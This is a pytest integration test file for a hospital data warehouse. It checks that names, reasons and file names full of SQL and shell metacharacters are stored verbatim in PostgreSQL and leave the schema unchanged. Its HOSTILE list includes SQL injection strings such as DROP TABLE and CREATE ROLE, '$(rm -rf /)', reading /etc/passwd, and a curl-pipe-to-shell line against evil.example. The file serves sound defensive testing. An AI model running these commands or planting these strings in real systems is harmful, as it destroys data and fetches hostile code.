"""Every statement is parameterised or COPY: hostile text goes in, the same text comes out.

Names and free-text fields full of SQL and shell metacharacters travel the three ways data enter
the warehouse (the population loader, the transfer stream, the batch files) and are read back
from PostgreSQL. Each must be stored exactly as sent, and no payload may have changed the schema
(a `DROP TABLE`, `CREATE ROLE` or `DELETE` that ran would show in the catalog or the row counts).
The expected values are the Python strings themselves; the files are written and read back with
the csv module, an independent RFC 4180 implementation.
"""

from __future__ import annotations

import csv
import dataclasses
import uuid
from datetime import date
from pathlib import Path

import pytest
from stdnum.za import idnr

from consumer.stream_consumer import ConsumerOptions, consume_transfers
from core import reference
from core.batch_files import KINDS, BatchFolders
from core.sa_id import make_sa_id
from core.transfer_event import Place
from database import load_population
from database.batch_ingest import run as ingest
from database.connection import connect
from generators import generate_people_data
from generators.people import PEOPLE_COLUMNS
from generators.transfers import TransferPlanner
from tests.integration.batch_fixtures import PATIENT_ID_BASE, STAFF_ID_BASE, load_batch_population
from tests.integration.stream_fixtures import (WINDOW_START, fetch, planner_inputs, population,  # noqa: F401
                                              produce_raw, read_topic, topics)

pytestmark = pytest.mark.integration

# No NUL byte: PostgreSQL text cannot hold one, so "\x00" appears only as the four characters.
HOSTILE = (
    "O'Reilly",
    'Say "hello"',
    "'; DROP TABLE core.person; --",
    "Robert'); DELETE FROM ops.file_ledger;--",
    "x'); CREATE ROLE mallory SUPERUSER LOGIN; --",
    '"; CREATE TABLE public.pwned (x int); --',
    "' OR '1'='1",
    "1; SELECT pg_sleep(30)",
    "-- trailing comment",
    "/* block */ comment",
    "back\\slash \\\\ C:\\temp\\new",
    "$(rm -rf /)",
    "`reboot`",
    "; ls",
    "| cat /etc/passwd",
    "&& curl http://evil.example/x | sh",
    "%s",
    "%(x)s",
    "100%% %d %",
    "{}",
    "{0} {name!r}",
    "$1",
    "$$ dollar $$ $tag$ quoted $tag$",
    "E'\\x00'",
    "\\x00 \\u0000 \\0",
    "\\N",
    "\\.",
    "NULL",
    "Ndlovu-O'Brien",
    "Nkosi\u00e9",
    "Nkosie\u0301",  # the same name decomposed: e + combining acute, kept as it came
    "Zo\u00eb van der Merwe-Mbatha",
    "Ng\u2019ethemba Kh\u00fbmalo",
    "Sawubona \U0001F3E5\U0001F1FF\U0001F1E6\U0001F469\U0001F3FD\u200d\u2695\ufe0f",
    "\U0001F3E5" * 200,  # the batch limit is 200 characters, not bytes
    "Smith, John",
    'She said ""no"", then "yes"',
    "first line\nsecond line",
    "crlf\r\nline",
    "lone\rreturn",
    "tab\there",
    "  leading and trailing spaces  ",
    "bell\x07 escape\x1b[31m red",
)
# What a payload would have created had it run.
INJECTED_ROLES = ("mallory",)
INJECTED_TABLES = ("pwned",)
CSV_SPECIAL = (",", '"', "\n", "\r")


def hostile(i: int) -> str:
    return HOSTILE[i % len(HOSTILE)]


def csv_field(value: str) -> str:
    # The csv module quotes a carriage return only when its line terminator holds one, and these
    # files end lines with "\n" (the batch file contract); RFC 4180 quotes every CR and LF.
    if any(ch in value for ch in CSV_SPECIAL):
        return '"' + value.replace('"', '""') + '"'
    return value


def write_csv(path: Path, header, rows) -> Path:
    """An RFC 4180 file with "\n" line ends; an empty field is unquoted (NULL to COPY)."""
    lines = [",".join(map(csv_field, row)) + "\n" for row in [header, *rows]]
    path.write_bytes("".join(lines).encode("utf-8"))
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def query(url: str, statement: str, params=()) -> list[tuple]:
    conn = connect(url)
    try:
        return fetch(conn, statement, params)
    finally:
        conn.close()


CATALOG = """
SELECT n.nspname, c.relname, c.relkind FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace
WHERE n.nspname !~ '^pg_' AND n.nspname <> 'information_schema'
  AND NOT c.relispartition  -- the batch loader adds day partitions of the clinical tables itself
"""


def catalog(url: str) -> set[tuple]:
    """Every table, view, index and sequence of the database outside the system and temp schemas."""
    return set(query(url, CATALOG))


def assert_nothing_injected(url: str, before: set[tuple]) -> None:
    assert catalog(url) == before
    assert query(url, "SELECT rolname FROM pg_roles WHERE rolname = ANY(%s)", (list(INJECTED_ROLES),)) == []
    assert query(url, "SELECT relname FROM pg_class WHERE relname = ANY(%s)", (list(INJECTED_TABLES),)) == []


# -- (a) the population -----------------------------------------------------------------------

PERSON_TEXT = ("first_name", "last_name", "passport_number", "email", "street_address", "suburb", "city",
               "province", "medical_aid")
PATIENT_COLUMNS = ("patient_id", "hospital_number", "person_id", "registration_date", "blood_group",
                   "chronic_conditions", "current_ward_code", "current_ward_since")


def hostile_person(i: int) -> dict[str, str]:
    """Person i (from 1) with a valid SA ID, or every tenth a foreign national with a passport,
    and a different hostile string in every free-text column."""
    born = date(1950 + i % 50, 1 + i % 12, 1 + i % 28)
    sequence = (i * 37) % 10_000
    foreign = i % 10 == 0
    row = {"person_id": str(i), "sa_id_number": "" if foreign else make_sa_id(born, sequence, "citizen"),
           "sex": "F" if sequence < 5000 else "M", "date_of_birth": born.isoformat(),
           "citizenship": "foreign_national" if foreign else "citizen", "phone_number": f"+2782{i:07d}",
           "postal_code": "1804"}
    for n, column in enumerate(PERSON_TEXT):
        row[column] = hostile(i + n)
    row["passport_country"] = "ZWE" if foreign else ""
    row["guardian_person_id"] = ""
    if not foreign:
        row["passport_number"] = ""
    return row


def hostile_patient(i: int) -> dict[str, str]:
    return {"patient_id": str(10_000 + i), "hospital_number": f"{i}:{hostile(i + 3)}", "person_id": str(i),
            "registration_date": "2020-01-01", "blood_group": "O+", "chronic_conditions": hostile(i + 5),
            "current_ward_code": "", "current_ward_since": ""}


def write_population(folder: Path, people: list[dict], patients: list[dict]) -> Path:
    folder.mkdir()
    write_csv(folder / "people.csv", PEOPLE_COLUMNS, [[p[c] for c in PEOPLE_COLUMNS] for p in people])
    write_csv(folder / "hospital_patients.csv", PATIENT_COLUMNS, [[p[c] for c in PATIENT_COLUMNS] for p in patients])
    return folder


def stored_people(url: str) -> dict[str, dict[str, str | None]]:
    columns = ", ".join(PERSON_TEXT)
    rows = query(url, f"SELECT person_id::text, sa_id_number, {columns} FROM core.person")  # fixed column names
    return {row[0]: dict(zip(("sa_id_number", *PERSON_TEXT), row[1:])) for row in rows}


def expected_person(row: dict[str, str]) -> dict[str, str | None]:
    # An empty CSV field is NULL (COPY's CSV default); every hostile value is non-empty.
    return {c: row[c] or None for c in ("sa_id_number", *PERSON_TEXT)}


def test_people_and_patients_written_with_metacharacters_load_verbatim(isolated_settings, tmp_path, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", isolated_settings.database_url)
    url = isolated_settings.database_url
    people = [hostile_person(i) for i in range(1, 2 * len(HOSTILE) + 1)]
    patients = [hostile_patient(i) for i in range(1, len(people) + 1, 2)]
    assert all(idnr.is_valid(p["sa_id_number"]) for p in people if p["sa_id_number"])
    half = len(people) // 2
    first = write_population(tmp_path / "first", people[:half], [p for p in patients if int(p["person_id"]) <= half])
    full = write_population(tmp_path / "full", people, patients)
    assert read_csv(full / "people.csv") == people  # the files say what we meant, to another parser
    before = catalog(url)

    # Into empty tables (a straight COPY), then the whole files again (staging table and merge).
    assert load_population.main(["--data-dir", str(first)]) == 0
    assert load_population.main(["--data-dir", str(full)]) == 0

    assert stored_people(url) == {p["person_id"]: expected_person(p) for p in people}
    stored_patients = query(url, "SELECT patient_id::text, hospital_number, person_id::text, chronic_conditions "
                                 "FROM core.patient")
    assert sorted(stored_patients) == sorted((p["patient_id"], p["hospital_number"], p["person_id"],
                                              p["chronic_conditions"]) for p in patients)
    assert_nothing_injected(url, before)


def test_people_generated_from_hostile_reference_names_load_verbatim(isolated_settings, tmp_path, monkeypatch):
    """The generator's own CSV encoder: names, streets, suburbs and schemes drawn from reference
    lists full of metacharacters. The encoder never quotes, so it refuses only the characters
    that would need quoting (comma, quote, line ends); every other value must come out whole."""
    monkeypatch.setenv("DATABASE_URL", isolated_settings.database_url)
    plain = [h for h in HOSTILE if not any(ch in h for ch in CSV_SPECIAL)]
    replaced = {"first_names.csv": "first_name", "surnames.csv": "surname", "streets.csv": "street_name",
                "suburbs.csv": "suburb", "medical_schemes.csv": "scheme_name"}
    real_table = reference.table

    def hostile_values(name: str, frame) -> list[str]:
        offset = list(replaced).index(name)
        return [plain[(i + offset) % len(plain)] for i in range(len(frame))]

    # Streets belong to suburbs: streets.csv's suburb column follows the suburbs' new names.
    suburbs = real_table("suburbs.csv")
    renamed = dict(zip(suburbs.suburb, hostile_values("suburbs.csv", suburbs)))

    def hostile_table(name: str):
        frame = real_table(name)
        if name in replaced:
            frame = frame.copy()  # the real table is cached
            frame[replaced[name]] = hostile_values(name, frame)
            if name == "streets.csv":
                frame["suburb"] = frame.suburb.map(renamed)
        return frame

    monkeypatch.setattr(reference, "table", hostile_table)
    monkeypatch.setattr(generate_people_data, "_worker_model", None)  # built from the hostile lists, then dropped
    out = tmp_path / "generated"
    out.mkdir()
    assert generate_people_data.main(["--rows", "3000", "--seed", "11", "--workers", "1", "--no-progress",
                                      "--out", str(out / "people.csv")]) == 0
    before = catalog(isolated_settings.database_url)

    assert load_population.main(["--data-dir", str(out)]) == 0

    written = read_csv(out / "people.csv")
    stored = stored_people(isolated_settings.database_url)
    assert stored == {row["person_id"]: expected_person(row) for row in written}
    drawn = {value for person in stored.values() for column in ("first_name", "last_name", "suburb", "medical_aid")
             if (value := person[column]) is not None}
    drawn |= {person["street_address"].split(" ", 1)[1] for person in stored.values()}  # "<house> <street>"
    assert drawn == set(plain)  # every hostile name came out whole: none cut short, none altered
    patients = read_csv(out / "hospital_patients.csv")
    assert query(isolated_settings.database_url, "SELECT count(*) FROM core.patient") == [(len(patients),)]
    assert_nothing_injected(isolated_settings.database_url, before)


# -- (b) the transfer stream ------------------------------------------------------------------

def template_event(conn, settings):
    """A valid version-1 event of the test hospital, to vary."""
    people, roster = planner_inputs(conn)
    planner = TransferPlanner(people, roster, settings.seed, WINDOW_START)
    return next(e for n in range(20) for e in planner.tick(n) if e.version == 1)


def consume(settings, events_topic: str, dlq: str):
    options = ConsumerOptions(topic=events_topic, dlq_topic=dlq, group=f"g-{uuid.uuid4().hex[:8]}",
                              until_idle_s=1.5)
    return consume_transfers(settings, options)


def test_transfer_reasons_full_of_metacharacters_are_stored_verbatim(isolated_settings, population, topics):
    events_topic, dlq = topics
    template = template_event(population, isolated_settings)
    url = isolated_settings.database_url
    requested, accepted = [], []
    for i in range(len(HOSTILE)):
        transfer_id = str(uuid.uuid4())
        requested.append(dataclasses.replace(template, event_id=str(uuid.uuid4()), transfer_id=transfer_id,
                                             reason=hostile(i)))
        # The next version carries another hostile reason: the upsert's update path must keep it too.
        accepted.append(dataclasses.replace(requested[-1], event_id=str(uuid.uuid4()), version=2,
                                            status="accepted", reason=hostile(i + 1)))
    before = catalog(url)
    produce_raw(isolated_settings, events_topic, [(e.key, e.to_bytes()) for e in requested + accepted])

    stats = consume(isolated_settings, events_topic, dlq)

    assert (stats.stored, stats.quarantined) == (2 * len(HOSTILE), 0)
    assert sorted(fetch(population, "SELECT event_id::text, reason FROM stream.transfer_event")) == sorted(
        (e.event_id, e.reason) for e in requested + accepted)
    assert sorted(fetch(population, "SELECT transfer_id::text, version, reason FROM stream.transfer")) == sorted(
        (e.transfer_id, 2, e.reason) for e in accepted)
    assert_nothing_injected(url, before)


def test_events_naming_hostile_wards_are_quarantined_with_their_exact_bytes(isolated_settings, population, topics):
    events_topic, dlq = topics
    template = template_event(population, isolated_settings)
    url = isolated_settings.database_url
    bad = [dataclasses.replace(template, event_id=str(uuid.uuid4()), transfer_id=str(uuid.uuid4()),
                               to_place=Place(ward_code=h), reason=hostile(i + 1)) for i, h in enumerate(HOSTILE)]
    payloads = [e.to_bytes() for e in bad]
    before = catalog(url)
    produce_raw(isolated_settings, events_topic, [(e.key, p) for e, p in zip(bad, payloads)])

    stats = consume(isolated_settings, events_topic, dlq)

    assert (stats.stored, stats.quarantined) == (0, len(bad))
    expected = sorted((f"unknown_ward: to.ward_code {e.to_place.ward_code!r}", p) for e, p in zip(bad, payloads))
    stored = fetch(population, "SELECT reason, raw_payload FROM ops.quarantined_event")
    assert sorted((reason, bytes(raw)) for reason, raw in stored) == expected
    dead_letters = read_topic(isolated_settings, dlq, 1)
    assert sorted((dict(m.headers())["reason"].decode(), m.value()) for m in dead_letters) == expected
    assert fetch(population, "SELECT count(*) FROM stream.transfer_event") == [(0,)]
    assert_nothing_injected(url, before)


# -- (c) the batch files ----------------------------------------------------------------------

BATCH_WHEN = "2026-03-02T09:{:02d}:00+02:00"  # inside the default window (SIM_START 2026-03-02)
# File names are data too (ops.file_ledger.file_name); a name cannot hold "/" or NUL.
LAB_CLEAN = "lab_result_'; DROP TABLE ops.file_ledger; --.csv"
LAB_UNPARSABLE = "lab $(id) `uname` | cat; %s %(x)s {} $1 \\ \u00e9\U0001F3E5.csv"
MEDICATION_BAD_PATIENT = "medication_Robert'); DELETE FROM ops.file_ledger;--.csv"


def lab_row(record_id: int, i: int, value: str = "5.5") -> list[str]:
    return [str(record_id), str(PATIENT_ID_BASE + 1 + i % 50), "W03", hostile(i), hostile(i + 1), value,
            hostile(i + 2), "H", BATCH_WHEN.format(i % 60), str(STAFF_ID_BASE + i % 10)]


def medication_row(record_id: int, i: int, patient: int | None = None) -> list[str]:
    return [str(record_id), str(patient or PATIENT_ID_BASE + 1 + i % 50), "W03", hostile(i), hostile(i + 1), "oral",
            BATCH_WHEN.format(i % 60), str(STAFF_ID_BASE + i % 10)]


def test_batch_records_and_file_names_full_of_metacharacters_load_verbatim(isolated_settings, tmp_path):
    load_batch_population(isolated_settings.database_admin_url)
    settings = dataclasses.replace(isolated_settings, data_dir=tmp_path / "data", sim_speed=0)
    url = settings.database_url
    folders = BatchFolders.from_settings(settings)
    folders.create()
    n = len(HOSTILE)
    # Three files for the loader's three ways through a file: every row good (typed COPY and one
    # insert); a value COPY cannot type (text staging, every value checked); a missing reference
    # (typed COPY, a merge that joins row by row).
    clean = [lab_row(1 + i, i) for i in range(n)]
    unparsable = [lab_row(1000 + i, i + 7) for i in range(n)]
    unparsable[3][5] = "five point five"
    medication = [medication_row(1 + i, i) for i in range(n)]
    medication[5] = medication_row(6, 5, patient=999_999_999)
    write_csv(folders.landing / LAB_CLEAN, KINDS["lab_result"].header, clean)
    write_csv(folders.landing / LAB_UNPARSABLE, KINDS["lab_result"].header, unparsable)
    write_csv(folders.landing / MEDICATION_BAD_PATIENT, KINDS["medication"].header, medication)
    assert [list(r.values()) for r in read_csv(folders.landing / LAB_UNPARSABLE)] == unparsable
    before = catalog(url)

    result = ingest(settings)

    assert (result.loaded, result.quarantined, result.rows_rejected) == (3, 0, 2)
    lab_loaded = [r for r in clean + unparsable if r is not unparsable[3]]
    labs = query(url, "SELECT lab_result_id::text, test_code, test_name, result_unit FROM clinical.lab_result")
    assert sorted(labs) == sorted((r[0], r[3], r[4], r[6]) for r in lab_loaded)
    medications = query(url, "SELECT medication_id::text, drug_name, dose FROM clinical.medication")
    assert sorted(medications) == sorted((r[0], r[3], r[4]) for r in medication if r is not medication[5])
    ledger = query(url, "SELECT file_name, status, rows_read, rows_loaded, rows_rejected FROM ops.file_ledger")
    assert sorted(ledger) == sorted([(LAB_CLEAN, "loaded", n, n, 0), (LAB_UNPARSABLE, "loaded", n, n - 1, 1),
                                     (MEDICATION_BAD_PATIENT, "loaded", n, n - 1, 1)])
    assert {p.name for p in folders.archive.glob("*.csv")} == {LAB_CLEAN, LAB_UNPARSABLE, MEDICATION_BAD_PATIENT}
    # A rejected row keeps its values, joined by commas (ops.rejected_row.raw_row), each one whole.
    rejected = dict(query(url, "SELECT l.file_name, r.raw_row FROM ops.rejected_row r JOIN ops.file_ledger l "
                               "USING (file_id)"))
    assert rejected.keys() == {LAB_UNPARSABLE, MEDICATION_BAD_PATIENT}
    assert rejected[LAB_UNPARSABLE] == ",".join(unparsable[3])  # staged as text: the values as written
    assert all(value in rejected[MEDICATION_BAD_PATIENT] for value in medication[5][3:5])  # typed: text kept
    assert_nothing_injected(url, before)
